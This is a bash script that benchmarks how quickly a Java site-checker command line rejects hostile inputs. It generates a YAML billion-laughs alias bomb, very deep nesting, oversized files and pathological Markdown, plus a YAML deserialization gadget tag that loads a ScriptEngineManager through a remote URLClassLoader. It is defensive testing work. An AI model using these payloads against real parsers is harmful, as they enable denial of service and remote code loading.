#!/usr/bin/env bash
# Times how fast hostile inputs are refused by the real command line (a fresh JVM each time,
# default stack size), so the "fails fast" promise in docs/safety.md can be re-measured.
# Usage: scripts/bench-hostile.sh [build-dir]   (build-dir defaults to target; run mvn test first)
set -euo pipefail
ROOT=$(cd "$(dirname "$0")/.." && pwd)
BUILD=${1:-$ROOT/target}
CP_FILE=$(mktemp)
(cd "$ROOT" && mvn -q -B -Dbuild.dir="$BUILD" dependency:build-classpath \
  -Dmdep.outputFile="$CP_FILE" >/dev/null)
CP="$BUILD/classes:$(cat "$CP_FILE")"

case_dir() {
  local d
  d=$(mktemp -d)
  cp -r "$ROOT/site.yaml" "$ROOT/content" "$ROOT/data" "$ROOT/templates" "$d/"
  echo "$d"
}

run() {
  local name=$1 dir=$2
  local start end code
  start=$(date +%s%N)
  set +e
  java -cp "$CP" org.factsite.cli.Main check --quiet --dir "$dir" >/dev/null 2>"$dir/err"
  code=$?
  set -e
  end=$(date +%s%N)
  printf '%-34s exit %d  %5d ms  %s\n' "$name" "$code" $(( (end - start) / 1000000 )) \
    "$(head -1 "$dir/err" | cut -c1-90)"
  rm -rf "$dir"
}

d=$(case_dir); run "campaign site (baseline)" "$d"
d=$(case_dir); python3 - "$d" <<'PY'
import sys
lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
for i, c in enumerate("bcdefghij"):
    prev = "abcdefghij"[i]
    lines.append(f"{c}: &{c} [" + ",".join(["*" + prev] * 9) + "]")
open(sys.argv[1] + "/data/bomb.yaml", "w").write("\n".join(lines) + "\n")
PY
run "billion laughs" "$d"
d=$(case_dir); python3 -c "import sys; open(sys.argv[1]+'/data/deep.yaml','w').write('x: '+'['*10000+']'*10000+'\n')" "$d"
run "10,000-deep YAML nesting" "$d"
d=$(case_dir); python3 -c "import sys; open(sys.argv[1]+'/data/big.yaml','w').write('x: \"'+'a'*10500000+'\"\n')" "$d"
run "10 MB YAML file" "$d"
d=$(case_dir); python3 -c "import sys; open(sys.argv[1]+'/data/big.yaml','w').write('x: \"'+'a'*2000000+'\"\n')" "$d"
run "2 MB YAML file" "$d"
d=$(case_dir); printf 'statistics: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]\n' > "$d/data/tag.yaml"
run "!!javax.script tag" "$d"
d=$(case_dir); python3 -c "import sys; open(sys.argv[1]+'/content/q.md','w').write('---\ntitle: Q\n---\n'+'>'*10000+' x\n')" "$d"
run "10,000 nested quotes" "$d"
d=$(case_dir); python3 -c "import sys; open(sys.argv[1]+'/content/q.md','w').write('---\ntitle: Q\n---\n'+'- '*5000+'x\n')" "$d"
run "5,000 nested list levels" "$d"
d=$(case_dir); python3 -c "import sys; open(sys.argv[1]+'/content/q.md','w').write('---\ntitle: Q\n---\n'+'*'*20000+'x'+'*'*20000+'\n')" "$d"
run "20,000-deep emphasis" "$d"
d=$(case_dir); python3 -c "import sys; open(sys.argv[1]+'/content/q.md','w').write('---\ntitle: Q\n---\n'+'['*100000+'\n')" "$d"
run "100,000 [ characters" "$d"
d=$(case_dir); python3 -c "
import sys
rows = ''.join('|1|2|3|4|5|6|7|8|9|0|\n' for _ in range(2000))
open(sys.argv[1]+'/content/q.md','w').write('---\ntitle: Q\n---\n|a|b|c|d|e|f|g|h|i|j|\n|-|-|-|-|-|-|-|-|-|-|\n'+rows)" "$d"
run "2,000 x 10 table" "$d"
rm -f "$CP_FILE"
